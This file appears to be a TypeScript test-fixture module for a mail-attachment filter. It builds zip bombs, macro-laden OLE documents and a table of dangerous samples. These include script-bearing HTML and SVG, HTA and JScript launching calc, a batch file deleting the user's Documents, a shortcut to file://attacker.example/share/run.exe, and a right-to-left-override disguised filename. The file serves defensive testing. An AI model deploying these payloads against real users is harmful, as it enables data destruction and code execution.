/**
 * Attachments for the tests of what is kept: zip files written here byte by
 * byte (so a test can make a real zip bomb: entries of zeros that deflate to
 * a thousandth of their size), the zip-based Office documents file-type
 * knows (`[Content_Types].xml` naming the main part), compound files (OLE)
 * written with the `cfb` package (a Word document, an Excel workbook, an HWP
 * document, an installer-like one), and the dangerous kinds a visitor's mail
 * may carry.
 */
import { crc32, deflateRawSync } from 'node:zlib';
import CFB from 'cfb';
import { EICAR } from '../../local/emulators/malware-scan';
import { BYTES } from './inbound-mail';

export interface ZipEntry {
  name: string;
  data: Buffer;
}

/** A zip of the entries, each deflated, with a central directory that states their true sizes. */
export function zipOf(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const deflated = deflateRawSync(entry.data);
    const crc = crc32(entry.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(deflated.length, 18);
    local.writeUInt32LE(entry.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(deflated.length, 20);
    central.writeUInt32LE(entry.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, deflated);
    centrals.push(central, name);
    offset += local.length + name.length + deflated.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';

/** A Word document (docx) as file-type reads one, with more parts when given. */
export function docxOf(parts: readonly ZipEntry[] = []): Buffer {
  return zipOf([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`,
      ),
    },
    {
      name: 'word/document.xml',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Referral</w:t></w:r></w:p></w:body></w:document>',
      ),
    },
    ...parts,
  ]);
}

/** A docx whose parts inflate to `mebibytes` MiB of zeros: a few hundred KiB in the mail, far past any real document's ratio. */
export function docxBomb(mebibytes = 65): Buffer {
  const zeros = Buffer.alloc(1024 * 1024);
  return docxOf(
    Array.from({ length: mebibytes }, (_, index) => ({ name: `word/media/fill${index}.bin`, data: zeros })),
  );
}

/** A compound file (OLE) with these streams (paths under the root: `WordDocument`, `Macros/VBA/dir`). */
export function compoundFileOf(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${path}`, content);
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

/** HWP 5's FileHeader stream: its 32-byte signature, then the version and properties. */
const HWP_HEADER = Buffer.concat([Buffer.from('HWP Document File'), Buffer.alloc(256 - 17)]);

/** BIFF8 globals naming one sheet of `type` (0 a worksheet, 1 an Excel 4.0 macro sheet), then EOF. */
function workbookStream(sheetType: number): Buffer {
  const bof = Buffer.from([0x09, 0x08, 0x04, 0x00, 0x00, 0x06, 0x05, 0x00]);
  const sheet = Buffer.from([0x85, 0x00, 0x08, 0x00, 0, 0, 0, 0, 0x00, sheetType, 0x01, 0x41]);
  return Buffer.concat([bof, sheet, Buffer.from([0x0a, 0x00, 0x00, 0x00])]);
}

export const COMPOUND = {
  word: () => compoundFileOf({ WordDocument: Buffer.alloc(1024, 1), '1Table': Buffer.alloc(512, 2) }),
  excel: () => compoundFileOf({ Workbook: workbookStream(0) }),
  hwp: () => compoundFileOf({ FileHeader: HWP_HEADER, BodyText: Buffer.alloc(128, 3) }),
  /** What an installer holds: streams of encoded names, no document stream. */
  msiLike: () =>
    compoundFileOf({
      '\u4840\u3f3f\u4577\u446c\u3b6a': Buffer.alloc(2048, 4),
      '\u0005SummaryInformation': Buffer.alloc(64),
    }),
  wordWithMacros: () => compoundFileOf({ WordDocument: Buffer.alloc(1024, 1), 'Macros/VBA/dir': Buffer.alloc(64, 5) }),
  wordWithPackage: () =>
    compoundFileOf({ WordDocument: Buffer.alloc(1024, 1), 'ObjectPool/_1/\u0001Ole10Native': BYTES.exe }),
  excelMacroSheet: () => compoundFileOf({ Workbook: workbookStream(1) }),
};

/** The dangerous kinds a visitor's mail may carry, as their bytes are (each sender's name is the test's). */
export const DANGEROUS = {
  html: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/view")</script></body></html>\n'),
  /** SVG without an XML declaration: file-type sees no type, so it reaches the text check. */
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>\n'),
  svgWithDeclaration: Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
  ),
  hta: Buffer.from(
    '<hta:application id="x"/>\n<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>\n',
  ),
  js: Buffer.from('var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n'),
  bat: Buffer.from('@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n'),
  url: Buffer.from('[InternetShortcut]\r\nURL=file://attacker.example/share/run.exe\r\n'),
  /** The EICAR test file alone (68 bytes of printable text), and inside a PDF. */
  eicar: Buffer.from(EICAR, 'latin1'),
  eicarInPdf: Buffer.concat([BYTES.pdf, Buffer.from(`\n% ${EICAR}\n`, 'latin1')]),
} as const;

/** A name with a right-to-left override: it reads `photo(BK 1) ath.jpg`, and is an HTML application (`.hta`). */
export const RTL_OVERRIDE_NAME = 'photo(BK 1) \u202Egpj.hta';
